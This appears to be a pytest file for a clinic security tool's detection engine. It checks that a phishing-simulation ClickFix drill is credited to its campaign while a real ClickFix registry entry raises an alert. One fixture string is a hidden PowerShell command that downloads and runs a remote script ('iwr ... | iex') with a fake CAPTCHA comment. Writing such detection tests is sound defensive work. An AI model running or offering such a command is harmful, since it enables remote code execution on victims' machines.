"""A ClickFix run carrying a live simulation token is a drill, not an incident."""

from datetime import UTC, datetime, timedelta

from django.conf import settings

from clinicshield.accounts.models import Person
from clinicshield.monitoring.actions import do_run_detection
from clinicshield.monitoring.models import Alert
from clinicshield.simulations import actions as simulations
from clinicshield.simulations.models import Campaign, Recipient

from .conftest import write_events

NOW = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)

RUNMRU = r"HKU\S-1-5-21-7\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\b"


def launched_clickfix_campaign(org, smtp):
    Person.objects.create(
        organisation=org, name="Ana", email="ana@a.example", department="reception"
    )
    campaign = simulations.do_create_campaign(
        org,
        name="Drill",
        template_key="booking-captcha",
        targets="all",
        smtp_host=smtp.host,
        smtp_port=smtp.port,
        from_address="it@sim.example",
        base_url="http://testserver",
        actor="test",
    )
    simulations.do_launch_campaign(
        campaign, NOW - timedelta(hours=1), immediately=True, actor="test"
    )
    simulations.do_send_due(campaign.pk, NOW - timedelta(hours=1))
    return campaign


def runmru_write(ts, value, ref):
    return {
        "ts": ts,
        "host": "reception-pc",
        "user": "ana",
        "event_code": "sysmon:13",
        "event_type": "SetValue",
        "target_object": RUNMRU,
        "details": value,
        "record_ref": ref,
    }


def test_the_drill_is_credited_to_its_campaign_and_the_real_attack_raises_an_alert(
    org_a, smtp_server
):
    campaign = launched_clickfix_campaign(org_a, smtp_server)
    token = Recipient.objects.get(campaign=campaign).token
    now = NOW
    chrome = '"C:\\Program Files\\Google\\Chrome\\chrome.exe"'
    drill = f'{chrome} "http://testserver/s/{token}#  I am not a robot"\\1'
    attack = "powershell -w hidden -c iwr http://203.0.113.7/a.ps1 | iex # I am not a robot\\1"
    write_events(
        settings.DATA_DIR,
        "process",
        [
            runmru_write(now - timedelta(minutes=20), drill, "r1"),
            runmru_write(now - timedelta(minutes=10), attack, "r2"),
        ],
        org=org_a.slug,
    )
    result = do_run_detection(org_a, now)
    assert result.simulations == 1
    assert [(a.kind, a.evidence["command_line"]) for a in result.new_alerts] == [
        ("clickfix", attack)
    ]
    assert Campaign.objects.get(pk=campaign.pk).detections == 1
    assert not Alert.objects.filter(evidence__command_line=drill).exists()
